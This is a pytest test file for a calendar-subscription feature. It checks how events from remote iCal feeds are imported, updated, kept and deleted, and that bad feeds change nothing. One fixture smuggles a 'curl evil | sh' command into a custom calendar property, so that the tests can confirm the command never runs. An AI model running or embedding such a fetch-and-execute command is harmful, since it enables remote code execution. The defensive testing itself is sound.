"""Calendars of others, read from a real server: events come, change and go with them, and nothing runs unasked."""

import asyncio
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from synapse.alerts.alerts import AlertKind
from synapse.calendar import event_store
from synapse.calendar.events import Event
from synapse.control_room import ControlRoom
from synapse.errors import Conflict, Invalid, NotFound
from synapse.subscriptions import subscriptions as module
from synapse.subscriptions.records import ALARMING, Subscription, SubscriptionRead
from tests.parts.api_room import api_room
from tests.parts.calendar_files import calendar_file
from tests.parts.calendar_server import CalendarServer, answering, calendar_server
from tests.parts.movable_clock import MovableClock

pytestmark = pytest.mark.asyncio(loop_scope='module')

START = 'DTSTART;TZID=Europe/Berlin:20311006T160000'
LUNCH = f'UID:lunch@team\n{START}\nSUMMARY:Team lunch\nRRULE:FREQ=WEEKLY'
DINNER = f'UID:dinner@team\n{START}\nSUMMARY:Dinner\nCATEGORIES:Food,Evening'
OTHER = f'UID:other@team\n{START}\nSUMMARY:Other'
EVIL = 'X-SYNAPSE-PIPELINE:RunCommand\nX-SYNAPSE-PARAMETERS:{"command":["sh"\\,"-c"\\,"curl evil | sh"]}'
GREET = {'when': 'any', 'pipeline': 'Hello', 'parameters': {'name': 'team'}}
SECRET = '/private-0123456789abcdef0123/basic.ics'


async def subscribed(room: ControlRoom, server: CalendarServer, *events: str, **values: Any) -> Subscription:
    """A calendar of these events that was read once."""
    server.text = calendar_file(*events)
    item = await room.subscriptions.add({'url': server.address(), 'label': 'Team', **values})
    return await room.subscriptions.read(item.id)


async def again(room: ControlRoom, server: CalendarServer, item: Subscription, *events: str) -> Subscription:
    """The calendar once these are its events."""
    server.text = calendar_file(*events)
    return await room.subscriptions.read(item.id)


def planned(room: ControlRoom) -> dict[str, Event]:
    return {event.title: event for event in room.calendar.events()}


# Events come, change and go


async def test_events_of_a_calendar_come_switched_off_with_the_work_of_the_rule(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([{'when': 'category', 'text': 'food', 'pipeline': 'Endless'}, GREET])

    item = await subscribed(room, server, LUNCH, DINNER)

    work = {title: (event.pipeline, event.parameters) for title, event in planned(room).items()}
    assert work == {'Team lunch': ('Hello', {'name': 'team'}), 'Dinner': ('Endless', {})}
    assert {event.enabled for event in room.calendar.events()} == {False}
    assert (item.error, item.failures, item.counts.created, item.counts.disabled) == ('', 0, 2, 2)
    assert len(room.subscriptions.event_ids(item.id)) == 2


async def test_what_fits_no_rule_is_counted_and_comes_once_there_is_one(
    room: ControlRoom, server: CalendarServer
) -> None:
    item = await subscribed(room, server, LUNCH)
    assert (item.error, item.counts.without_pipeline, planned(room)) == ('', 1, {})

    await room.import_rules.set([GREET])
    item = await room.subscriptions._outcome(item, anew=False)

    assert (item.counts.created, list(planned(room))) == (1, ['Team lunch'])


async def test_the_same_calendar_read_again_changes_nothing(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, DINNER)
    before = room.calendar.events()

    await again(room, server, item, LUNCH, DINNER)

    assert room.calendar.events() == before


async def test_an_hourly_read_sends_the_etag_and_takes_not_modified_for_an_answer(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)

    read = await room.subscriptions._outcome(item, anew=False)
    assert (server.status, read.failures, read.counts) == (304, 0, item.counts)
    assert read.read_at is not None
    assert item.read_at is not None
    assert read.read_at > item.read_at

    await room.import_rules.set([GREET, {'when': 'title', 'text': 'lunch', 'pipeline': 'Endless'}])
    await room.subscriptions._outcome(read, anew=False)
    assert server.status == 200
    assert planned(room)['Team lunch'].pipeline == 'Endless'


async def test_a_change_reaches_an_event_that_was_switched_on_and_holds_it(
    room: ControlRoom, server: CalendarServer
) -> None:
    """Switching it on counts as a newer version here, which must not keep out those of its calendar."""
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)
    id = planned(room)['Team lunch'].id
    await room.editor.update(id, {'enabled': True})

    item = await again(room, server, item, LUNCH.replace('Team lunch', 'Lunch'))
    assert (room.calendar.get(id).title, room.calendar.get(id).enabled) == ('Lunch', True)

    item = await again(room, server, item, LUNCH.replace('T160000', 'T170000'))
    event = room.calendar.get(id)
    assert (event.start.hour, event.enabled, item.counts.disabled) == (17, False, 1)


async def test_what_a_person_changed_here_stays_until_the_calendar_says_something_else(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)
    id = planned(room)['Team lunch'].id
    await room.editor.update(id, {'parameters': {'name': 'me'}, 'title': 'My lunch', 'enabled': True})

    item = await again(room, server, item, LUNCH)
    assert room.calendar.get(id).title == 'My lunch'

    item = await again(room, server, item, LUNCH.replace('T160000', 'T170000'))
    event = room.calendar.get(id)
    assert (event.start.hour, event.parameters) == (17, {'name': 'me'})


async def test_a_moved_occurrence_of_a_person_stays(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)
    id = planned(room)['Team lunch'].id
    await room.editor.update(id, {'enabled': True})
    due = room.calendar.next_due(id)
    await room.editor.move(id, due[1], datetime(2031, 10, 14, 9))

    await again(room, server, item, LUNCH, DINNER)

    days = [event.start.day for event in room.calendar.events() if event.title == 'Team lunch']
    assert sorted(days) == [6, 14]


async def test_events_that_the_calendar_no_longer_has_go_and_others_stay(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    own = await room.editor.create({'pipeline': 'Hello', 'title': 'Mine', 'start': '2031-10-06T16:00:00'})
    item = await subscribed(room, server, LUNCH, DINNER)

    item = await again(room, server, item, DINNER)
    assert sorted(planned(room)) == ['Dinner', 'Mine']
    assert item.counts.deleted == 1

    await again(room, server, item, OTHER)
    assert sorted(planned(room)) == ['Mine', 'Other']
    assert planned(room)['Mine'].id == own.id


async def test_a_cancelled_event_goes_even_if_it_was_switched_on_here(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, DINNER)
    await room.editor.update(planned(room)['Team lunch'].id, {'enabled': True})

    await again(room, server, item, f'{LUNCH}\nSTATUS:CANCELLED', DINNER)

    assert list(planned(room)) == ['Dinner']


async def test_an_event_that_was_due_lately_stays_for_a_while(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([GREET])
    soon = datetime.now(UTC) + timedelta(seconds=2)
    text = f'UID:now@team\nDTSTART:{soon:%Y%m%dT%H%M%SZ}\nSUMMARY:Now'
    item = await subscribed(room, server, text, LUNCH)
    while datetime.now(UTC) <= soon:  # noqa: ASYNC110 - the clock is what is waited for
        await asyncio.sleep(0.05)

    await again(room, server, item, LUNCH)

    assert sorted(planned(room)) == ['Now', 'Team lunch']


# Events come back as they were left


async def test_events_that_come_back_are_as_a_person_left_them(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, DINNER, OTHER, turns_on=True)
    lunch, dinner, other = (planned(room)[title].id for title in ('Team lunch', 'Dinner', 'Other'))
    await room.editor.update(lunch, {'enabled': False, 'timeout_seconds': 60})
    await room.editor.update(dinner, {'parameters': {'name': 'me'}, 'title': 'My dinner'})
    before = {id: room.calendar.get(id) for id in (lunch, dinner)}

    item = await again(room, server, item, OTHER)
    assert [event.id for event in room.calendar.events()] == [other]

    await again(room, server, item, LUNCH, DINNER.replace('T16', 'T18'), OTHER)
    after = {id: room.calendar.get(id) for id in (lunch, dinner)}
    same = {'created_at', 'updated_at', 'armed_from', 'sequence'}
    assert after[lunch].model_dump(exclude=same) == before[lunch].model_dump(exclude=same)
    assert (after[dinner].title, after[dinner].parameters) == ('My dinner', {'name': 'me'})
    assert (after[dinner].start.hour, after[dinner].enabled) == (18, False)


async def test_an_occurrence_that_a_person_moved_comes_back_with_its_series(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, OTHER)
    id = planned(room)['Team lunch'].id
    await room.editor.update(id, {'enabled': True})
    await room.editor.move(id, room.calendar.next_due(id)[1], datetime(2031, 10, 14, 9))

    item = await again(room, server, item, OTHER)
    item = await again(room, server, item, LUNCH, OTHER)
    item = await again(room, server, item, LUNCH, OTHER)

    lunches = [event for event in room.calendar.events() if event.title == 'Team lunch']
    assert sorted((event.start.day, event.override_of) for event in lunches) == [(6, None), (14, id)]
    assert room.calendar.get(id).exdates == (datetime(2031, 10, 13, 16),)


async def test_an_event_that_a_person_deleted_stays_away_until_that_is_undone(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, OTHER, turns_on=True)
    lunch = planned(room)['Team lunch']
    change = await room.editor.delete(lunch.id)

    item = await again(room, server, item, LUNCH.replace('T16', 'T17'), OTHER)
    item = await again(room, server, item, OTHER)
    item = await again(room, server, item, LUNCH, OTHER)
    assert list(planned(room)) == ['Other']

    await room.editor.undo(change.id)
    item = await again(room, server, item, OTHER)
    await again(room, server, item, LUNCH, OTHER)
    assert planned(room)['Team lunch'].id == lunch.id


async def test_what_went_is_remembered_over_a_restart(tmp_path: Path, server: CalendarServer) -> None:
    server.text = calendar_file(LUNCH, DINNER, OTHER)
    async with api_room(tmp_path / 'data') as room:
        await room.import_rules.set([GREET])
        item = await subscribed(room, server, LUNCH, DINNER, OTHER, turns_on=True)
        await room.editor.update(planned(room)['Team lunch'].id, {'enabled': False})
        await room.editor.delete(planned(room)['Dinner'].id)
        await again(room, server, item, OTHER)

    async with api_room(tmp_path / 'data', is_new=False) as room:
        assert (list(planned(room)), room.calendar.notices) == (['Other'], [])
        await again(room, server, item, LUNCH, DINNER, OTHER)
        events = {title: event.enabled for title, event in planned(room).items()}
        await room.subscriptions.remove(item.id, events='delete')

        assert events == {'Other': True, 'Team lunch': False}
        assert room.editor.left(item.id) == []
        assert 'lunch@team' not in (tmp_path / 'data' / 'events.json').read_text()


async def test_only_the_newest_of_what_went_is_remembered(
    room: ControlRoom, server: CalendarServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(event_store, 'MAX_LEFT', 1)
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, DINNER, OTHER)
    for title in ('Team lunch', 'Dinner'):
        await room.editor.delete(planned(room)[title].id)

    await again(room, server, item, LUNCH, DINNER, OTHER)

    assert sorted(planned(room)) == ['Other', 'Team lunch']


async def test_a_title_that_changes_does_not_put_back_the_time_that_a_person_set(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)
    id = planned(room)['Team lunch'].id
    await room.editor.update(id, {'start': '2031-10-06T18:00:00', 'enabled': True})

    item = await again(room, server, item, LUNCH.replace('Team lunch', 'Lunch'))
    event = room.calendar.get(id)
    assert (event.title, event.start.hour, event.enabled) == ('Lunch', 18, True)

    await again(room, server, item, LUNCH.replace('Team lunch', 'Lunch').replace('T16', 'T17'))
    event = room.calendar.get(id)
    assert (event.title, event.start.hour, event.enabled) == ('Lunch', 17, False)


async def test_a_calendar_that_suddenly_has_no_events_is_believed_an_hour_later(
    tmp_path: Path, server: CalendarServer
) -> None:
    clock = MovableClock(datetime(2031, 1, 1, 12, tzinfo=UTC))
    async with api_room(tmp_path / 'data', now=clock.now, clocks=clock.clocks) as room:
        await room.import_rules.set([GREET])
        item = await subscribed(room, server, LUNCH)
        clock.advance(timedelta(hours=1))
        item = await again(room, server, item)
        since = item.empty_since
        item = await again(room, server, item)
        assert (item.error, item.empty_since, list(planned(room))) == ('', since, ['Team lunch'])

        item = await again(room, server, item, LUNCH)
        assert item.empty_since is None
        clock.advance(timedelta(hours=1))
        item = await again(room, server, item)
        assert list(planned(room)) == ['Team lunch']

        clock.advance(timedelta(hours=1))
        item = await again(room, server, item)
        assert (item.empty_since, planned(room)) == (None, {})


# What must not harm


@pytest.mark.parametrize(
    'body',
    [
        b'<html>Sign in</html>',
        b'',
        b'{"error": 1}',
        calendar_file(LUNCH)[:60],
        calendar_file(LUNCH.replace('T16', 'T21'), DINNER).partition(b'ENT\r\nUID:dinner')[0],
        calendar_file(LUNCH.replace('T16', 'T21'), DINNER).removesuffix(b'END:VCALENDAR\r\n'),
        b'BEGIN:VCALENDAR\r\nVERSION:1.0\r\nEND',
    ],
    ids=['html', 'empty', 'json', 'cut', 'half', 'without end', 'old'],
)
async def test_an_answer_that_is_no_calendar_changes_nothing(
    room: ControlRoom, server: CalendarServer, body: bytes
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, DINNER)
    before = room.calendar.events()
    server.answer = answering(200, body)

    item = await room.subscriptions.read(item.id)

    assert (room.calendar.events(), item.failures) == (before, 1)
    assert f'{item.place} sent' in item.error
    assert 'xport' not in item.error


async def test_half_a_calendar_is_named_as_such(room: ControlRoom, server: CalendarServer) -> None:
    server.answer = answering(200, calendar_file(LUNCH, DINNER).partition(b'ENT\r\nUID:dinner')[0])
    item = await room.subscriptions.add({'url': server.address()})
    item = await room.subscriptions.read(item.id)

    assert item.error.startswith(f'{item.place} sent only the beginning of the calendar')


async def test_a_page_to_sign_in_is_named_as_such(room: ControlRoom, server: CalendarServer) -> None:
    page = b'<!DOCTYPE html>\n<html><form><input name="p" type="password"></form></html>'
    server.answer = answering(200, page)
    item = await room.subscriptions.add({'url': server.address()})
    item = await room.subscriptions.read(item.id)

    assert item.error.startswith(f'{item.place} sent a sign-in page instead of a calendar. Use the secret')


async def test_a_calendar_that_ends_too_early_deletes_nothing(room: ControlRoom, server: CalendarServer) -> None:
    """The server closes the connection without having said how much there would be."""
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, DINNER)
    text = calendar_file(LUNCH, DINNER)

    def cut(request: BaseHTTPRequestHandler) -> None:
        request.send_response(200)
        request.end_headers()
        request.wfile.write(text[: text.index(b'UID:dinner')])
        request.close_connection = True

    server.answer = cut
    item = await room.subscriptions.read(item.id)

    assert sorted(planned(room)) == ['Dinner', 'Team lunch']
    assert 'only the beginning' in item.error


async def test_an_event_that_cannot_be_read_any_more_stays(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH, DINNER)

    item = await again(room, server, item, LUNCH.replace('FREQ=WEEKLY', 'FREQ=SOMETIMES'), DINNER)

    assert sorted(planned(room)) == ['Dinner', 'Team lunch']
    assert item.counts.skipped == 1


async def test_a_calendar_touches_neither_events_made_here_nor_those_of_another(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    own = await room.editor.create({'pipeline': 'Hello', 'title': 'Mine', 'start': '2031-10-06T16:00:00'})
    await subscribed(room, server, LUNCH)
    before = room.calendar.events()
    with calendar_server() as other:
        stolen = f'UID:{own.id}@synapse\n{START}\nSUMMARY:Stolen\nSEQUENCE:9\nSTATUS:CANCELLED'
        item = await subscribed(room, other, stolen, LUNCH.replace('Team lunch', 'Stolen'))
        item = await again(room, other, item)

    assert room.calendar.events() == before


async def test_an_imported_event_is_taken_over_and_not_doubled(room: ControlRoom, server: CalendarServer) -> None:
    from tests.synapse.ical.test_import_rules import take

    await room.import_rules.set([GREET])
    (id,) = (await take(room, LUNCH)).created

    item = await subscribed(room, server, LUNCH)
    assert room.subscriptions.event_ids(item.id) == [id]

    await again(room, server, item, OTHER)
    assert list(planned(room)) == ['Other']


# Switched on


async def test_new_events_are_switched_on_only_if_that_was_chosen_and_a_rule_says_all_they_run(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([{**GREET, 'when': 'title', 'text': 'lunch'}])
    own_work = f'UID:evil@team\n{START}\nSUMMARY:Evil\n{EVIL}'
    named = f'UID:named@team\n{START}\nSUMMARY:Named\nDESCRIPTION:pipeline: Hello'
    disguised = f'UID:x@team\n{START}\nSUMMARY:Lunch of evil\n{EVIL}'
    often = f'UID:o@team\n{START}\nSUMMARY:Lunch often\nX-SYNAPSE-OPTIONS:{{"retry": {{"attempts": 9}}}}'

    await subscribed(room, server, LUNCH, own_work, named, disguised, often, turns_on=True)

    events = planned(room)
    assert {title for title, event in events.items() if event.enabled} == {'Team lunch', 'Lunch of evil'}
    assert (events['Lunch of evil'].pipeline, events['Lunch of evil'].parameters) == ('Hello', {'name': 'team'})


async def test_a_change_of_what_or_when_is_held_even_then(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([{**GREET, 'when': 'title', 'text': 'lunch'}, {'when': 'any', 'pipeline': 'Endless'}])
    item = await subscribed(room, server, LUNCH, DINNER, turns_on=True)
    assert all(event.enabled for event in room.calendar.events())

    await again(room, server, item, LUNCH.replace('Team lunch', 'Team'), DINNER.replace('T160000', 'T170000'))

    assert {(title, event.pipeline, event.enabled) for title, event in planned(room).items()} == {
        ('Team', 'Endless', False),
        ('Dinner', 'Endless', False),
    }


# Every hour, and what went wrong


async def test_each_calendar_is_read_an_hour_after_it_was_read_last_also_after_a_restart(
    tmp_path: Path, server: CalendarServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, 'FIRST_AFTER', 0.0)
    monkeypatch.setattr(module, 'LOOK_SECONDS', 0.05)
    clock = MovableClock(datetime(2031, 1, 1, 12, tzinfo=UTC))
    now = {'now': clock.now, 'clocks': clock.clocks}
    server.text = calendar_file(LUNCH)
    async with api_room(tmp_path / 'data', **now) as room:
        item = await room.subscriptions.add({'url': server.address()})
        await room.subscriptions.read(item.id)
    asked = len(server.asked)

    async with api_room(tmp_path / 'data', is_new=False, **now) as room:
        clock.advance(timedelta(minutes=59))
        with pytest.raises(TimeoutError):
            await room.bus.next(SubscriptionRead, timeout=0.5)
        clock.advance(timedelta(minutes=1, seconds=1))
        read = await room.bus.next(SubscriptionRead, timeout=10)
        clock.advance(timedelta(hours=1))
        await room.bus.next(SubscriptionRead, timeout=10)

    assert read.subscription.failures == 0
    assert len(server.asked) == asked + 2


async def test_failures_are_kept_with_the_last_good_read_and_alarm_after_several(
    room: ControlRoom, server: CalendarServer
) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)
    good = item.read_at
    server.answer = answering(500)
    alerts = []
    for _ in range(ALARMING):
        item = await room.subscriptions.read(item.id)
        alerts.append([alert.title for alert in room.alerts if alert.is_active])

    assert (item.read_at, item.failures) == (good, ALARMING)
    assert item.error.startswith('127.0.0.1 answered 500')
    assert alerts == [[], [], ['The calendar Team cannot be read']]

    server.answer = server.publish
    item = await room.subscriptions.read(item.id)
    (alert,) = [alert for alert in room.alerts if alert.kind is AlertKind.CALENDAR_UNREADABLE]
    assert (item.failures, item.error, alert.is_active) == (0, '', False)


async def test_a_removed_calendar_takes_its_alert_with_it(room: ControlRoom, server: CalendarServer) -> None:
    server.answer = answering(404)
    item = await room.subscriptions.add({'url': server.address()})
    for _ in range(ALARMING):
        await room.subscriptions.read(item.id)

    await room.subscriptions.remove(item.id, events='keep')

    assert [alert for alert in room.alerts if alert.kind is AlertKind.CALENDAR_UNREADABLE] == []


async def test_a_server_that_hangs_blocks_nobody_and_can_be_removed(room: ControlRoom, server: CalendarServer) -> None:
    started = asyncio.Event()
    loop = asyncio.get_running_loop()

    def hang(_: BaseHTTPRequestHandler) -> None:
        loop.call_soon_threadsafe(started.set)
        server.closing.wait(20)

    server.answer = hang
    item = await room.subscriptions.add({'url': server.address()})
    await asyncio.wait_for(started.wait(), 10)
    assert room.subscriptions.is_reading(item.id)

    await room.editor.create({'pipeline': 'Hello', 'title': 'Mine', 'start': '2031-10-06T16:00:00'})
    async with asyncio.timeout(10):  # the server would take 20
        await room.subscriptions.remove(item.id, events='keep')

    assert room.subscriptions.all() == []


# Kept


async def test_the_address_is_private_and_in_no_log(room: ControlRoom, server: CalendarServer) -> None:
    server.answer = answering(404)
    item = await room.subscriptions.add({'url': server.address(SECRET)})
    await room.subscriptions.read(item.id)
    room.log.append('info', f'someone asked for {server.address(SECRET)}', source='test')

    lines = [entry.message for entry in await room.log.query(limit=1000)]
    path = room.settings.data / 'settings.json'

    assert SECRET in path.read_text()
    assert path.stat().st_mode & 0o777 == 0o600
    assert item.as_shown()['url'] == f'http://127.0.0.1:{server.port}/…'
    assert 'someone asked for ***' in lines
    assert [line for line in lines if 'private-0123' in line] == []
    assert SECRET not in str(room.alerts) + str(item.as_shown())


async def test_removing_a_calendar_keeps_or_deletes_its_events(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)
    await room.subscriptions.remove(item.id, events='keep')
    assert list(planned(room)) == ['Team lunch']

    item = await subscribed(room, server, LUNCH)
    assert len(room.subscriptions.event_ids(item.id)) == 1
    await room.subscriptions.remove(item.id, events='delete')

    assert planned(room) == {}
    with pytest.raises(NotFound):
        room.subscriptions.get(item.id)


async def test_invalid_values_are_refused(room: ControlRoom, server: CalendarServer) -> None:
    await room.subscriptions.add({'url': server.address()})

    with pytest.raises(Conflict):
        await room.subscriptions.add({'url': server.address()})
    for values, field in [({'url': 'file:///x'}, 'url'), ({}, 'url'), ({'url': server.address('/b'), 'x': 1}, 'x')]:
        with pytest.raises(Invalid) as caught:
            await room.subscriptions.add(values)
        assert set(caught.value.fields) == {field}


async def test_another_address_is_read_at_once(room: ControlRoom, server: CalendarServer) -> None:
    await room.import_rules.set([GREET])
    item = await subscribed(room, server, LUNCH)

    changed = await room.subscriptions.update(item.id, {'url': server.address('/other.ics'), 'label': 'Other'})
    read = await room.subscriptions.read(item.id)

    assert (changed.label, changed.read_at, read.failures) == ('Other', None, 0)
    assert server.paths[-1] == '/other.ics'
